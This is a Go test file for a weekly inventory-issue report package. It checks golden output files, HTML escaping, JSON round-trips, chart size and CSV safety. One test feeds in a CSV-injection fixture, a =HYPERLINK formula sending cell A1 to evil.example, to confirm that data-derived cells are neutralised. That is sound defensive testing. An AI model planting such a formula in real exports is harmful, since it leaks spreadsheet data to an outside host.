package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"image/png"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/shopspring/decimal"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

func decimalOf(t *testing.T, s string) decimal.NullDecimal {
	t.Helper()
	d, err := decimal.NewFromString(s)
	require.NoError(t, err)
	return decimal.NewNullDecimal(d)
}

func nullDecimal() decimal.NullDecimal { return decimal.NullDecimal{} }

func ptr[T any](v T) *T { return &v }

// sample is a complete report of a past week in New York, with two
// currencies, an empty median, an "unknown" aging bucket and names that
// need escaping.
func sample(t *testing.T) Report {
	t.Helper()
	ny, err := time.LoadLocation("America/New_York")
	require.NoError(t, err)
	r, err := New(Week{2025, 10}, ny, time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC))
	require.NoError(t, err)
	r.OpenCount = 4
	r.RevenueAtRisk = Money{"EUR": "321.75", "USD": "1202.25"}
	seven, forty := 7, 40
	r.AddAged(&seven, 2, "USD", decimalOf(t, "1200.00"))
	r.AddAged(&forty, 1, "EUR", decimalOf(t, "321.75"))
	r.AddAged(nil, 1, "USD", decimalOf(t, "2.25"))
	for i := range r.Trend {
		r.Trend[i].New = i
		r.Trend[i].Resolved = i / 2
		r.Trend[i].OpenAtWeekEnd = 2 * i
		r.Trend[i].RevenueAtRisk = Money{"USD": decimal.NewFromInt(int64(150 * i)).StringFixed(2)}
		if i%3 == 1 {
			r.Trend[i].MedianDaysToResolution = ptr(2.5 * float64(i))
		}
	}
	r.Trend[7].Cancelled = 1
	r.Trend[6].Escalated, r.Trend[7].Escalated, r.Escalations = 1, 2, 2
	r.Trend[7].RevenueAtRisk["EUR"] = "321.75"
	r.TopSuppliers = []TopSupplier{
		{Currency: "EUR", SupplierID: "SUP-2", SupplierName: `Bolt & Co <"Ltd">`, OpenCount: 1, Units: 3, RevenueAtRisk: "321.75"},
		{Currency: "USD", SupplierID: "SUP-1", SupplierName: "Acme Parts", OpenCount: 3, Units: 12, RevenueAtRisk: "1202.25"},
	}
	r.TopSKUs = []TopSKU{
		{Currency: "EUR", SKU: "SKU-9", ProductName: "Gear <b>big</b>", OpenCount: 1, Units: 3, RevenueAtRisk: "321.75"},
		{Currency: "USD", SKU: "SKU-1", ProductName: "Widget, large", OpenCount: 2, Units: 12, RevenueAtRisk: "1202.25"},
	}
	r.CustomersNotified = 3
	r.SMSAlertsSent = 1
	r.OpenTasks = []RoleTasks{{Role: "inventory_clerk", Count: 1, OldestAgeDays: 2.3}, {Role: "procurement_manager", Count: 2, OldestAgeDays: 12.5}}
	return r
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		require.NoError(t, os.WriteFile(path, got, 0o644))
	}
	want, err := os.ReadFile(path)
	require.NoError(t, err, "run go test ./internal/report -update to create it")
	assert.Equal(t, string(want), string(got), "%s differs; if the change is intended, rerun with -update", path)
}

func TestGoldenFormats(t *testing.T) {
	r := sample(t)
	for _, tc := range []struct {
		file  string
		write func(*bytes.Buffer) error
	}{
		{"report.html", func(b *bytes.Buffer) error { return WriteHTML(b, r, "cid:trend-chart") }},
		{"report.txt", func(b *bytes.Buffer) error { return WriteTable(b, r) }},
		{"report.json", func(b *bytes.Buffer) error { return WriteJSON(b, r) }},
		{"report.csv", func(b *bytes.Buffer) error { return WriteCSV(b, r) }},
	} {
		t.Run(tc.file, func(t *testing.T) {
			var b bytes.Buffer
			require.NoError(t, tc.write(&b))
			golden(t, tc.file, b.Bytes())
		})
	}
}

func TestHTMLEscapesData(t *testing.T) {
	var b bytes.Buffer
	require.NoError(t, WriteHTML(&b, sample(t), "cid:trend-chart"))
	html := b.String()
	assert.Contains(t, html, "Bolt &amp; Co &lt;&#34;Ltd&#34;&gt;")
	assert.Contains(t, html, "Gear &lt;b&gt;big&lt;/b&gt;")
	assert.NotContains(t, html, "<b>big")
	assert.Contains(t, html, `src="cid:trend-chart"`)
}

func TestJSONNames(t *testing.T) {
	var b bytes.Buffer
	require.NoError(t, WriteJSON(&b, sample(t)))
	var doc map[string]any
	require.NoError(t, json.Unmarshal(b.Bytes(), &doc))
	for _, key := range []string{"week", "open_count", "revenue_at_risk", "aging", "trend", "top_suppliers", "top_skus", "customers_notified", "sms_alerts_sent", "open_tasks"} {
		assert.Contains(t, doc, key)
	}
	assert.Equal(t, map[string]any{"EUR": "321.75", "USD": "1202.25"}, doc["revenue_at_risk"], "money is exact decimal strings")
	aging := doc["aging"].([]any)[0].(map[string]any)
	assert.Equal(t, map[string]any{"bucket": "1-7", "count": 2.0, "value": map[string]any{"USD": "1200.00"}}, aging)
	trend := doc["trend"].([]any)[0].(map[string]any)
	for _, key := range []string{"week", "new", "resolved", "open_at_week_end", "revenue_at_risk", "median_days_to_resolution"} {
		assert.Contains(t, trend, key)
	}

	var back Report
	require.NoError(t, json.Unmarshal(b.Bytes(), &back))
	var again bytes.Buffer
	require.NoError(t, WriteJSON(&again, back))
	assert.Equal(t, b.String(), again.String(), "a report survives the trip through Temporal's JSON unchanged")
}

func TestCSVParses(t *testing.T) {
	var b bytes.Buffer
	require.NoError(t, WriteCSV(&b, sample(t)))
	rows, err := csv.NewReader(&b).ReadAll()
	require.NoError(t, err)
	assert.Equal(t, CSVHeader, rows[0])
	find := func(section, item, currency, metric string) string {
		for _, row := range rows[1:] {
			if row[0] == section && row[1] == item && row[2] == currency && row[3] == metric {
				return row[4]
			}
		}
		return "<missing>"
	}
	assert.Equal(t, "4", find("report", "2025-W10", "", "open_count"))
	assert.Equal(t, "1202.25", find("report", "2025-W10", "USD", "revenue_at_risk"))
	assert.Equal(t, "1200.00", find("aging", "1-7", "USD", "value"))
	assert.Equal(t, "Widget, large", find("top_skus", "SKU-1", "USD", "product_name"))
	assert.Equal(t, "12.5", find("open_tasks", "procurement_manager", "", "oldest_age_days"))
}

func TestChartIsAPNGOfTheExpectedSize(t *testing.T) {
	for name, r := range map[string]Report{"sample": sample(t), "empty": emptyReport(t)} {
		var b bytes.Buffer
		require.NoError(t, WriteChart(&b, r), name)
		img, err := png.Decode(&b)
		require.NoError(t, err, name)
		assert.Equal(t, ChartWidth, img.Bounds().Dx(), name)
		assert.Equal(t, ChartHeight, img.Bounds().Dy(), name)
	}
}

func TestStandaloneHTMLEmbedsTheChart(t *testing.T) {
	var b bytes.Buffer
	require.NoError(t, WriteStandaloneHTML(&b, sample(t)))
	assert.True(t, strings.Contains(b.String(), `src="data:image/png;base64,iVBOR`), "the chart is inline as a PNG data URL")
}

func TestTableSaysWhenTheWeekIsInProgress(t *testing.T) {
	ny, err := time.LoadLocation("America/New_York")
	require.NoError(t, err)
	r, err := New(Week{2025, 10}, ny, time.Date(2025, 3, 6, 17, 30, 0, 0, time.UTC))
	require.NoError(t, err)
	var b bytes.Buffer
	require.NoError(t, WriteTable(&b, r))
	assert.Contains(t, b.String(), "week in progress: figures as of Thu 2025-03-06 12:30 -05:00, not the end of the week")
	assert.Contains(t, r.Summary(), "(week in progress)")
}

func emptyReport(t *testing.T) Report {
	t.Helper()
	r, err := New(Week{2025, 10}, time.UTC, time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC))
	require.NoError(t, err)
	return r
}

// Ids and names come from data: one that begins like a formula must reach
// a spreadsheet as text (OWASP's CSV injection rule), while the figures the
// report formats itself stay figures.
func TestCSVNeutralisesFormulasFromData(t *testing.T) {
	r := sample(t)
	r.TopSuppliers = []TopSupplier{
		{Currency: "USD", SupplierID: "=SUP", SupplierName: `=HYPERLINK("https://evil.example/?x="&A1,"Click")`, OpenCount: 1, Units: 3, RevenueAtRisk: "10.00"},
		{Currency: "USD", SupplierID: "@SUP", SupplierName: "+1 Parts", OpenCount: 1, Units: 1, RevenueAtRisk: "1.00"},
	}
	r.TopSKUs = []TopSKU{
		{Currency: "USD", SKU: "-SKU", ProductName: "\tTabbed", OpenCount: 1, Units: 3, RevenueAtRisk: "10.00"},
		{Currency: "USD", SKU: "SKU-2", ProductName: "\rReturn", OpenCount: 1, Units: 2, RevenueAtRisk: "2.00"},
	}
	r.OpenTasks = []RoleTasks{{Role: "procurement_manager", Count: 1, OldestAgeDays: 1.5}}
	r.Trend[0].MedianDaysToResolution = nil
	var b bytes.Buffer
	require.NoError(t, WriteCSV(&b, r))
	rows, err := csv.NewReader(&b).ReadAll()
	require.NoError(t, err)
	var items, names []string
	for _, row := range rows[1:] {
		if row[0] == "top_suppliers" || row[0] == "top_skus" {
			if row[3] == "supplier_name" || row[3] == "product_name" {
				items = append(items, row[1])
				names = append(names, row[4])
			}
			if row[3] == "revenue_at_risk" {
				assert.NotContains(t, row[4], "'", "amounts stay numbers")
			}
		}
	}
	assert.Equal(t, []string{"'=SUP", "'@SUP", "'-SKU", "SKU-2"}, items)
	assert.Equal(t, []string{`'=HYPERLINK("https://evil.example/?x="&A1,"Click")`, "'+1 Parts", "'\tTabbed", "'\rReturn"}, names)
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && !strings.HasPrefix(cell, "'") {
				assert.NotContains(t, "=+@\t\r", cell[:1], "no cell may begin like a formula: %q", row)
				if cell[0] == '-' {
					t.Errorf("a cell beginning with '-' that is not the report's own figure: %q", row)
				}
			}
		}
	}
}
